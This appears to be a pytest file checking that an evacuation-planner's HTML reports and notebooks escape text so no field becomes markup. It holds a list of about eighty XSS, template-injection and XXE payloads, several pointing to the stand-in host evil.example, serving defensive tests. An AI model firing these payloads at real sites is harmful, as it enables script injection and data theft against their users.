"""No text can become markup: whatever stands in a field is read back as that text."""

from __future__ import annotations

from dataclasses import fields, replace
from typing import Any

import pytest

from evacopt.domain.columns import Coded
from evacopt.domain.instance import Instance
from evacopt.domain.plan import Assignment, Assignments, GoalResult, GoalTable, Plan, Reason, Run, Unserved
from evacopt.output.clean import clean
from evacopt.output.notebook import page_of
from evacopt.output.report.report import unjudged_html
from tests.output.report.cases import INSTANCE, NO_OUTLINES, PLAN
from tests.output.report.reading import outward, scripts, skeleton, words

_SHORT = """
<b>x</b>
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x></SCRIPT>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src='x'/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
</svg><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</td></tr></table><h1>x</h1>
</text></svg><iframe src=//evil.example>
<iframe srcdoc="<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href=https://evil.example>x</a>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<style>*{background:url(//evil.example)}</style>
<style>@import '//evil.example/x.css';</style>
<object data=//evil.example></object>
<embed src=//evil.example>
<form action=//evil.example><input name=x></form>
<button formaction=javascript:alert(1)>x
<video src=//evil.example poster=//evil.example>
<audio src=//evil.example onerror=alert(1)>
<body onload=alert(1)>
<html manifest=//evil.example>
<details open ontoggle=alert(1)>
<math><mi xlink:href=javascript:alert(1)>
<marquee onstart=alert(1)>
<input autofocus onfocus=alert(1)>
<select><option></select><script>alert(1)</script>
<table background=//evil.example>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext>
<xmp><script>alert(1)</script></xmp>
<!-- <script>alert(1)</script>
<!--><script>alert(1)</script>
--><script>alert(1)</script><!--
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<?xml version="1.0"?><x/>
<!DOCTYPE html [<!ENTITY x SYSTEM "//evil.example">]>
" onmouseover="alert(1)
' onmouseover='alert(1)
" onload=alert(1) x="
"><script>alert(1)</script>
'><script>alert(1)</script>
`><script>alert(1)</script>
" style="background:url(//evil.example)
" style=background:url(//evil.example) x="
"/><image href=//evil.example /><path d="
M0 0"/><script>alert(1)</script><path d="
" transform="scale(9)" onclick="alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)
&quot; onload=&quot;alert(1)
&amp;lt;b&amp;gt;
&nbsp;&shy;&zwj;
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
\\u003cscript\\u003ealert(1)
%3Cscript%3Ealert(1)%3C/script%3E
{{ 7*7 }}
{{ config }}{% import 'x' %}
{% raw %}{{ x }}
{# comment #}
${7*7} #{7*7}
<%= 7*7 %>
javascript:alert(1)
url(//evil.example)
expression(alert(1))
=HYPERLINK("//evil.example")
[x](javascript:alert(1))
"""
PAYLOADS = [line for line in _SHORT.splitlines() if line] + [
    "\u202e<b>x</b>\u2066",
    "＜script＞alert(1)＜/script＞",
    "a\x00<b>b</b>\x1b[31m",
    "<b\n>x</b\n>",
]


def _with(instance: Instance, plan: Plan, text: str) -> tuple[Instance, Plan]:
    """The case with `text` in every field that holds one; ids stay different by a number before it."""
    names: dict[str, str] = {}

    def named(old: Any) -> Any:
        if isinstance(old, tuple):
            return tuple(map(named, old))
        if not isinstance(old, str) or not old:
            return old
        return names.setdefault(old, f"{len(names)}{text}")

    def row(record: Any, kept: set[str]) -> Any:
        filled = {field.name: getattr(record, field.name) for field in fields(record)}
        return replace(record, **{key: named(value) for key, value in filled.items() if key not in kept})

    kept = {"role", "status", "kind", "accepts"}
    tables: dict[str, Any] = {
        table: tuple(row(one, kept) for one in getattr(instance, table))
        for table in ("locations", "flights", "shares", "blocs", "fleets")
    }
    groups = instance.groups
    changed = replace(
        instance,
        name=named(instance.name),
        title=named("title"),
        source=named("source"),
        license=named("license"),
        groups=replace(
            groups,
            id=named(groups.id),
            nationality=Coded(groups.nationality.codes, named(groups.nationality.values)),
            origin=Coded(groups.origin.codes, named(groups.origin.values)),
        ),
        **tables,
    )
    told = Plan(
        instance_name=named(plan.instance_name),
        instance_sha256=changed.sha256,
        assignments=Assignments.of(
            Assignment(named(one.group), named(one.itinerary), one.parties) for one in plan.assignments
        ),
        sorties=tuple((named(flight), times) for flight, times in plan.sorties),
        goals=GoalTable(
            tuple(GoalResult(named(one.goal), one.value, one.bound, one.grade) for one in plan.goals)
        ),
        unserved=tuple(
            Unserved(
                named(one.group),
                one.parties,
                tuple(Reason(named(why.code), named(why.text)) for why in one.reasons),
            )
            for one in plan.unserved
        ),
        run=Run(evacopt=named("version"), backend=named("backend"), seconds=((named("solve"), 0.1),)),
    )
    return changed, told


def _report(text: str, *, public: bool) -> str:
    instance, plan = _with(INSTANCE, PLAN, text)
    before = replace(plan, assignments=plan.assignments[:2], sorties=())
    last = None if public else before
    return unjudged_html(instance, plan, public=public, title=text, outlines=NO_OUTLINES, before=last)


def test_the_reader_sees_what_points_out() -> None:
    """Links, pictures and styles that would ask a network are found, so the tests here can fail."""
    styles = "<style>@import '//c'; x{background:url(//d)}</style><p style='background:url(//e)'>"
    picture = "<svg><image href='//f'/><use xlink:href='//g'/><script>1</script></svg>"
    evil = f"<img src=//a><a href='https://b'>{styles}{picture}"
    assert len(outward(evil)) == 7
    assert scripts(evil) == 1
    assert outward("<a href='#top'><link rel=icon href='data:,'>") == []


def test_there_are_eighty_payloads() -> None:
    """The list is not cut by accident."""
    assert len(set(PAYLOADS)) >= 80


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_markup(payload: str) -> None:
    """A reader finds the same elements and attributes as with letters in place of the text, and the text."""
    text = _report(payload, public=False)
    assert skeleton(text) == skeleton(_report("a" * len(payload), public=False))
    assert (outward(text), scripts(text)) == ([], 0)
    assert " ".join(clean(payload).split()) in words(text)


@pytest.mark.parametrize("payload", PAYLOADS[::7])
def test_nor_in_the_public_report_and_in_notebooks(payload: str) -> None:
    """The same templates escape there too."""
    letters = "a" * len(payload)
    assert skeleton(_report(payload, public=True)) == skeleton(_report(letters, public=True))
    evil, good = (_with(INSTANCE, PLAN, text) for text in (payload, letters))
    assert skeleton(page_of(evil[0])) == skeleton(page_of(good[0]))
    assert skeleton(page_of(evil[1])) == skeleton(page_of(good[1]))
